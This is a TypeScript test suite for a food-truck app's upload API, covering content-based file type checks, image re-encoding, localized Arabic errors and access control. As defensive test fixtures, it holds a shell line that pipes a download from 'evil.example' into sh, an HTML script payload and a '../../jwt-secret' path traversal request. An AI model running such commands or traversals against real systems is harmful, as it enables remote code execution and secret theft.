import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { count, eq } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { bearer, signUp, type SignedUp } from '@testing/accounts';
import { createTestApp } from '@testing/test-app';
import { createDraft, demoImage, minimalPdf, multipart, uploadFile } from '@testing/trucks';
import { truckUploads } from '../db/tables/trucks';

let app: FastifyInstance;
let uploadsDir: string;
let vendor: SignedUp;
let truckId: string;

beforeAll(async () => {
  const created = await createTestApp();
  app = created.app;
  uploadsDir = created.config.uploadsDir;
  vendor = await signUp(app);
  truckId = (await createDraft(app, vendor)).id;
});

const filesOnDisk = (id: string) => (existsSync(path.join(uploadsDir, 'trucks', id)) ? readdirSync(path.join(uploadsDir, 'trucks', id)) : []);
const rowsOf = async (id: string) => (await app.database.db.select({ n: count() }).from(truckUploads).where(eq(truckUploads.truckId, id)))[0]?.n ?? 0;
const get = (url: string, user: SignedUp | null = vendor) => app.inject({ method: 'GET', url, headers: user ? bearer(user.token) : {} });

describe('uploads: accepted by content', () => {
  it.each([
    ['a PNG', 'photo.png', 'image/png', 'png'],
    ['a JPEG', 'photo.jpg', 'image/jpeg', 'jpeg'],
    ['a WebP', 'photo.webp', 'image/webp', 'webp'],
    ['a JPEG named .png (the content decides)', 'photo.png', 'image/png', 'jpeg'],
  ] as const)('takes %s as a photo, re-encoded to WebP and at most 1600 px', async (_name, fileName, type, format) => {
    const content = await sharp(await demoImage('Photo', '#1565c0', format, 3200, 1200))
      .withMetadata({ exif: { IFD0: { Copyright: 'secret GPS place' } } })
      .toFormat(format)
      .toBuffer();
    const res = await uploadFile(app, vendor, truckId, 'photo', { name: fileName, type, content });
    expect(res.statusCode).toBe(201);
    const upload = res.json();
    expect(upload).toMatchObject({ purpose: 'photo', mime: 'image/webp', name: fileName, url: `/api/v1/trucks/${truckId}/uploads/${upload.id}` });

    const served = await app.inject({ method: 'GET', url: upload.url });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    const meta = await sharp(served.rawPayload).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 1600, height: 600 });
    expect(meta.exif).toBeUndefined();
  });

  it('takes a PDF as a document and keeps it as it is', async () => {
    const pdf = minimalPdf('Commercial registration');
    const res = await uploadFile(app, vendor, truckId, 'document', { name: 'cr.pdf', type: 'application/pdf', content: pdf });
    expect(res.statusCode).toBe(201);
    expect(res.json()).toMatchObject({ mime: 'application/pdf', bytes: pdf.length });
    const served = await get(res.json().url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(served.rawPayload.equals(pdf)).toBe(true);
  });

  it('keeps a logo to 512 px', async () => {
    const res = await uploadFile(app, vendor, truckId, 'logo', { name: 'logo.png', type: 'image/png', content: await demoImage('L', '#000', 'png', 2000, 2000) });
    const served = await app.inject({ method: 'GET', url: res.json().url });
    expect(await sharp(served.rawPayload).metadata()).toMatchObject({ width: 512, height: 512 });
  });
});

describe('uploads: refused with a clear message, nothing stored', () => {
  const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
  const fakePdf = Buffer.concat([Buffer.from('%PFD-1.4\n'), minimalPdf('x').subarray(9)]);
  const html = Buffer.from('<html><script>alert(1)</script></html>');
  const truncatedPng = async () => (await demoImage('T', '#000', 'png', 400, 400)).subarray(0, 200);

  it.each([
    ['a script renamed .png', 'photo', 'evil.png', 'image/png', () => script, 415, 'file_disguised', /named like a PNG file/],
    ['a script declared as a JPEG', 'photo', 'upload', 'image/jpeg', () => script, 415, 'file_disguised', /JPEG/],
    ['a PDF with the wrong header', 'document', 'permit.pdf', 'application/pdf', () => fakePdf, 415, 'file_disguised', /named like a PDF file/],
    ['a web page renamed .webp', 'photo', 'page.webp', 'image/webp', () => html, 415, 'file_disguised', /WebP/],
    ['a GIF', 'photo', 'anim.gif', 'image/gif', () => demoImage('G', '#000', 'png').then((png) => sharp(png).gif().toBuffer()), 415, 'file_type_not_allowed', /JPEG, PNG, or WebP/],
    ['a real PDF as a logo', 'logo', 'logo.pdf', 'application/pdf', () => minimalPdf('logo'), 415, 'file_type_not_allowed', /JPEG, PNG, or WebP/],
    ['a text file', 'document', 'notes.txt', 'text/plain', () => Buffer.from('hello'), 415, 'file_type_not_allowed', /PDF, JPEG, PNG, or WebP/],
    ['a truncated PNG', 'photo', 'broken.png', 'image/png', truncatedPng, 422, 'file_unreadable', /damaged/],
    ['a PDF cut short', 'document', 'cut.pdf', 'application/pdf', () => minimalPdf('x').subarray(0, 200), 422, 'file_unreadable', /damaged/],
  ] as const)('%s', async (_name, purpose, fileName, type, content, status, code, message) => {
    const before = await rowsOf(truckId);
    const onDisk = filesOnDisk(truckId).length;
    const res = await uploadFile(app, vendor, truckId, purpose, { name: fileName, type, content: await content() });
    expect(res.statusCode).toBe(status);
    expect(res.json().error.code).toBe(code);
    expect(res.json().error.message).toMatch(message);
    expect(await rowsOf(truckId)).toBe(before);
    expect(filesOnDisk(truckId)).toHaveLength(onDisk);
  });

  it('refuses a file over 10 MB with 413', async () => {
    const big = Buffer.concat([minimalPdf('big'), Buffer.alloc(10 * 1024 * 1024 + 1, 0x20)]);
    const res = await uploadFile(app, vendor, truckId, 'document', { name: 'big.pdf', type: 'application/pdf', content: big });
    expect(res.statusCode).toBe(413);
    expect(res.json().error).toMatchObject({ code: 'file_too_large', message: 'The file is larger than 10 MB.' });
  });

  it('says it in Arabic', async () => {
    const res = await uploadFile(app, vendor, truckId, 'photo', { name: 'evil.png', type: 'image/png', content: script }, { 'accept-language': 'ar' });
    expect(res.json().error.message).toMatch(/PNG.*محتواه ليس كذلك/);
    // The formats as an Arabic list («أو», not a Latin comma), each isolated in its own direction.
    const text = await uploadFile(app, vendor, truckId, 'document', { name: 'notes.txt', type: 'text/plain', content: Buffer.from('hello') }, { 'accept-language': 'ar' });
    expect(text.json().error.message).toBe('هذا النوع من الملفات غير مقبول هنا. اختر ملفًا بصيغة \u2068PDF\u2069 أو \u2068JPEG\u2069 أو \u2068PNG\u2069 أو \u2068WebP\u2069.');
    const big = Buffer.concat([minimalPdf('big'), Buffer.alloc(10 * 1024 * 1024 + 1, 0x20)]);
    const tooLarge = await uploadFile(app, vendor, truckId, 'document', { name: 'big.pdf', type: 'application/pdf', content: big }, { 'accept-language': 'ar' });
    expect(tooLarge.json().error.message).toBe('حجم الملف أكبر من ١٠ ميغابايت.');
  });

  it('needs a file, a known purpose and a multipart body', async () => {
    const noFile = multipart('other', 'x.png', 'image/png', Buffer.from('x'));
    const wrongField = await app.inject({ method: 'POST', url: `/api/v1/trucks/${truckId}/uploads?purpose=photo`, headers: { ...noFile.headers, ...bearer(vendor.token) }, payload: noFile.payload });
    expect(wrongField.statusCode).toBe(400);
    expect(wrongField.json().error.fields).toEqual([expect.objectContaining({ path: 'file', code: 'required' })]);
    const badPurpose = await app.inject({ method: 'POST', url: `/api/v1/trucks/${truckId}/uploads?purpose=avatar`, headers: bearer(vendor.token), payload: {} });
    expect(badPurpose.statusCode).toBe(400);
    const json = await app.inject({ method: 'POST', url: `/api/v1/trucks/${truckId}/uploads?purpose=photo`, headers: bearer(vendor.token), payload: { file: 'x' } });
    expect(json.statusCode).toBe(415);
  });
});

describe('uploads: who sees what', () => {
  it('serves logos and photos to anyone, documents only to the owner and admins', async () => {
    const admin = await signUp(app, { roles: ['Admin'] });
    const stranger = await signUp(app);
    const logo = (await uploadFile(app, vendor, truckId, 'logo', { name: 'l.png', type: 'image/png', content: await demoImage('L', '#000', 'png') })).json();
    const doc = (await uploadFile(app, vendor, truckId, 'document', { name: 'd.pdf', type: 'application/pdf', content: minimalPdf('d') })).json();

    expect((await get(logo.url, null)).statusCode).toBe(200);
    expect((await get(logo.url, stranger)).headers['cache-control']).toMatch(/public/);
    expect((await get(doc.url, vendor)).statusCode).toBe(200);
    expect((await get(doc.url, vendor)).headers['cache-control']).toBe('private, no-store');
    expect((await get(doc.url, admin)).statusCode).toBe(200);
    expect((await get(doc.url, null)).statusCode).toBe(401);
    const refused = await get(doc.url, stranger);
    expect(refused.statusCode).toBe(404);
    // The same answer as for a file that does not exist at all.
    const missing = await get(`/api/v1/trucks/${truckId}/uploads/${crypto.randomUUID()}`, stranger);
    expect(missing.json()).toEqual(refused.json());
    expect((await get(`/api/v1/trucks/${truckId}/uploads/${crypto.randomUUID()}`, vendor)).statusCode).toBe(404);
    expect((await get(`/api/v1/trucks/${truckId}/uploads/../../jwt-secret`, vendor)).statusCode).toBe(404);
  });

  it('takes uploads only from the owner', async () => {
    const stranger = await signUp(app);
    const res = await uploadFile(app, stranger, truckId, 'logo', { name: 'l.png', type: 'image/png', content: await demoImage('L', '#000', 'png') });
    expect(res.statusCode).toBe(404);
    expect(res.json().error.code).toBe('truck_not_found');
  });
});
